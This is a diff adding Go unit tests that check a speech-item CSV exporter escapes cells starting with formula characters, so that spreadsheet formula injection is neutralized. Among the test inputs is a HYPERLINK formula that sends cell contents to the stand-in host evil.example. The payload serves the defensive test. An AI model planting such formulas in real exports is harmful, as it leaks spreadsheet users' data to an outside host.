@@ -0,0 +1,62 @@
+package main
+
+import (
+	"bytes"
+	"encoding/csv"
+	"testing"
+)
+
+func TestSpeechesCSVNeutralizesFormulas(t *testing.T) {
+	items := []*SpeechItem{{
+		ID:         7,
+		Kind:       "speech",
+		Language:   "en",
+		Tags:       []string{"+cmd"},
+		Feedback:   "@SUM(A1:A2)",
+		Tip:        "-2+3",
+		Notes:      `=HYPERLINK("http://evil.example/?d="&A1, "click")`,
+		Transcript: "\t=1+1",
+	}}
+	next := func() *SpeechItem {
+		if len(items) == 0 {
+			return nil
+		}
+		it := items[0]
+		items = items[1:]
+		return it
+	}
+
+	var buf bytes.Buffer
+	writeSpeechesCSV(&buf, next)
+	records, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(records) != 2 {
+		t.Fatalf("%d records, want header and one row", len(records))
+	}
+	col := map[string]string{}
+	for i, name := range records[0] {
+		col[name] = records[1][i]
+	}
+	want := map[string]string{
+		"tags":       "'+cmd",
+		"feedback":   "'@SUM(A1:A2)",
+		"tip":        "'-2+3",
+		"notes":      `'=HYPERLINK("http://evil.example/?d="&A1, "click")`,
+		"transcript": "'\t=1+1",
+	}
+	for name, v := range want {
+		if col[name] != v {
+			t.Errorf("%s = %q, want %q", name, col[name], v)
+		}
+	}
+}
+
+func TestCSVTextLeavesPlainText(t *testing.T) {
+	for _, s := range []string{"", "Good pace.", "100 words", "Ну, это было хорошо"} {
+		if got := csvText(s); got != s {
+			t.Errorf("csvText(%q) = %q", s, got)
+		}
+	}
+}